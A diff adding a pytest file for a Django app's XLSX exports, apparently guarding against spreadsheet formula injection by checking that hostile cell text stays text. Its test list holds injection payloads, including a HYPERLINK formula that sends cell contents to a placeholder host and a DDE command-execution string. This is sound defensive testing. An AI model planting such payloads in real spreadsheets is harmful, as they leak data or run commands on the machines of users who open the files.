@@ -1,0 +1,100 @@
+"""One XLSX writer: text is never a formula, numbers are numbers, every export is scanned."""
+
+import io
+import pathlib
+import re
+import zipfile
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+
+from kinerja.core.xlsx import Buku
+from kinerja.organisasi.models import Satker
+from kinerja.perencanaan.models import Indikator, SasaranKegiatan
+
+JAHAT = [
+    '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1\x01\x02",
+]
+
+
+def pindai(isi: bytes) -> list[openpyxl.cell.Cell]:
+    """Every cell of every sheet; fails on a formula anywhere (cell type or raw XML)."""
+    with zipfile.ZipFile(io.BytesIO(isi)) as z:
+        for nama in z.namelist():
+            if nama.startswith("xl/worksheets/"):
+                xml = z.read(nama).decode()
+                assert not re.search(r"<f[ >]", xml), f"rumus di {nama}"
+    wb = openpyxl.load_workbook(io.BytesIO(isi))
+    sel = []
+    for ws in wb.worksheets:
+        for baris in ws.iter_rows():
+            for c in baris:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    assert c.quotePrefix, (c.coordinate, c.value)
+                sel.append(c)
+    return sel
+
+
+def test_teks_jahat_tetap_teks():
+    b = Buku("Lembar [1]: uji/coba?*" + "x" * 40)
+    b.baris(JAHAT)
+    b.baris([Decimal("82.21"), 1500, None, True, Decimal("NaN")])
+    isi = b.simpan()
+    sel = pindai(isi)
+    nilai = [c.value for c in sel]
+    assert nilai[:7] == JAHAT[:7] and nilai[8] == "=1+1\ufffd\ufffd"
+    assert nilai[7] in ("\r=1+1", "\n=1+1")  # XML reads a bare CR as LF; still text
+    ws = openpyxl.load_workbook(io.BytesIO(isi)).active
+    assert ws.title == "Lembar -1-- uji-coba--xxxxxxxxx" and len(ws.title) == 31
+    assert ws["A2"].value == Decimal("82.21") or ws["A2"].value == pytest.approx(82.21)
+    assert ws["A2"].data_type == "n" and ws["A2"].number_format == "#,##0.00"
+    assert ws["B2"].value == 1500 and ws["B2"].number_format == "#,##0"
+    assert ws["D2"].value == "Ya" and ws["E2"].value == "tidak valid"
+
+
+def _rute_xlsx(resolver=None):
+    for p in (resolver or get_resolver()).url_patterns:
+        if isinstance(p, URLResolver):
+            if p.namespace != "admin":
+                yield from _rute_xlsx(p)
+        elif isinstance(p, URLPattern) and p.name and p.name.endswith("_xlsx"):
+            yield p.name
+
+
+EKSPOR = {"dasbor_xlsx": {"kode": "658021", "tahun": 2024}}
+
+
+def test_setiap_ekspor_terdaftar():
+    """A new export must be added here, so that its cells are scanned."""
+    assert set(_rute_xlsx()) == set(EKSPOR)
+
+
+@pytest.mark.parametrize("nama", sorted(EKSPOR))
+def test_setiap_sel_ekspor_aman(nama, masuk, pengguna):
+    from kinerja.lib.capaian import Pita
+    from kinerja.organisasi import actions as org
+
+    s = Satker.objects.get(kode="658021")
+    Satker.objects.filter(pk=s.pk).update(nama=JAHAT[0])
+    for i, ind in enumerate(Indikator.objects.filter(sasaran__renstra__satker=s)[:len(JAHAT)]):
+        Indikator.objects.filter(pk=ind.pk).update(nama=JAHAT[i], kode=JAHAT[i][:20])
+        SasaranKegiatan.objects.filter(pk=ind.sasaran_id).update(uraian=JAHAT[-1 - i])
+    org.atur_pita(pengguna("admin"), s, (Pita(Decimal(500), "=2+2"), Pita(Decimal(0), "@SUM(A1)")))
+    r = masuk("pembaca").get(reverse(nama, kwargs=EKSPOR[nama]))
+    assert r.status_code == 200
+    sel = pindai(r.content)
+    teks = {c.value for c in sel if isinstance(c.value, str)}
+    assert JAHAT[1] in teks and "=1+1" in teks and "@SUM(A1)" in teks
+    assert any(c.data_type == "n" and isinstance(c.value, (int, float, Decimal)) for c in sel)
+
+
+def test_hanya_satu_penulis_xlsx():
+    """Every export goes through kinerja.core.xlsx: no other module writes workbooks."""
+    akar = pathlib.Path(__file__).resolve().parents[2] / "kinerja"
+    pelanggar = [str(p.relative_to(akar)) for p in akar.rglob("*.py")
+                 if "openpyxl" in p.read_text() and p.name != "xlsx.py"]
+    assert pelanggar == []
